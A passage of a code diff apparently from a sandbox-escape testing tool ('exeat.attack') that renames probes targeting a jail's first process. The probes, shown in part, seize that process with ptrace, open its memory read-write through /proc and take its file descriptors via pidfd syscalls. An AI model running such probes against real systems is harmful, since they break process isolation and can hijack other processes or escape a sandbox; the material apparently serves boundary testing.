@@ -12,7 +12,6 @@ import struct
 import time
 from pathlib import Path
 
-from exeat.attack.keyring import read_key
 from exeat.attack.model import BOUNDARIES, Absent, Evidence, Group, Scene, Stopped, apart
 from exeat.attack.moves import (
     SYS_PIDFD_GETFD,
@@ -23,6 +22,7 @@ from exeat.attack.moves import (
     say_unix,
     syscall,
 )
+from exeat.attack.outside.kernel_objects import read_key
 
 GROUP = Group("processes", "processes outside", BOUNDARIES)
 _SECRET = Evidence.SECRET
@@ -175,7 +175,7 @@ def own_group(scene: Scene) -> str:
     return "sent"
 
 
-def _keeper(scene: Scene) -> int:
+def _init(scene: Scene) -> int:
     """The jail's first process, which is under fewer rules than the command; outside, the victim."""
     if scene.outside:
         return scene.victim["pid"]
@@ -184,9 +184,9 @@ def _keeper(scene: Scene) -> int:
     return 1
 
 
-@GROUP.probe("E7.keeper-ptrace", "ptrace of the jail's first process", evidence=Evidence.DEED)
-def keeper_ptrace(scene: Scene) -> str:
-    pid = _keeper(scene)
+@GROUP.probe("E7.init-ptrace", "ptrace of the jail's first process", evidence=Evidence.DEED)
+def init_ptrace(scene: Scene) -> str:
+    pid = _init(scene)
     libc_call("ptrace", _PTRACE_SEIZE, pid, 0, 0)
     libc_call("ptrace", _PTRACE_INTERRUPT, pid, 0, 0)
     os.waitpid(pid, 0x40000000)  # __WALL
@@ -194,15 +194,15 @@ def keeper_ptrace(scene: Scene) -> str:
     return f"held process {pid}"
 
 
-@GROUP.probe("E7.keeper-memory", "memory of the jail's first process", evidence=Evidence.DEED)
-def keeper_memory(scene: Scene) -> str:
-    os.close(os.open(f"/proc/{_keeper(scene)}/mem", os.O_RDWR))
+@GROUP.probe("E7.init-memory", "memory of the jail's first process", evidence=Evidence.DEED)
+def init_memory(scene: Scene) -> str:
+    os.close(os.open(f"/proc/{_init(scene)}/mem", os.O_RDWR))
     return "opened"
 
 
-@GROUP.probe("E7.keeper-descriptors", "descriptors of the jail's first process", evidence=Evidence.DEED)
-def keeper_descriptors(scene: Scene) -> str:
-    process = syscall(SYS_PIDFD_OPEN, _keeper(scene), 0)
+@GROUP.probe("E7.init-descriptors", "descriptors of the jail's first process", evidence=Evidence.DEED)
+def init_descriptors(scene: Scene) -> str:
+    process = syscall(SYS_PIDFD_OPEN, _init(scene), 0)
     taken = []
     for descriptor in range(64):
         try:
